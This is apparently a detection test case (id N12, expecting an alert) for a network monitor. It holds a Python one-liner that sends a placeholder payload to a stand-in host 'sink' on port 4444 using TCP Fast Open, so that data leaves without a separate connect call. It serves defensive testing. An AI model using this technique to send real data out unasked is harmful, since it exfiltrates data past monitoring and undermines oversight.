# id: N12
# title: Data leaves without connect (TCP fast open)
# expect: alert
# severity: medium
# kinds: network
# attck: T1071
# image: python
# launch: app
# peers: sink:4444

python3 -c '
import socket
address = (socket.gethostbyname("sink"), 4444)
with socket.socket() as stream:
    stream.sendto(b"stand-in", socket.MSG_FASTOPEN, address)'
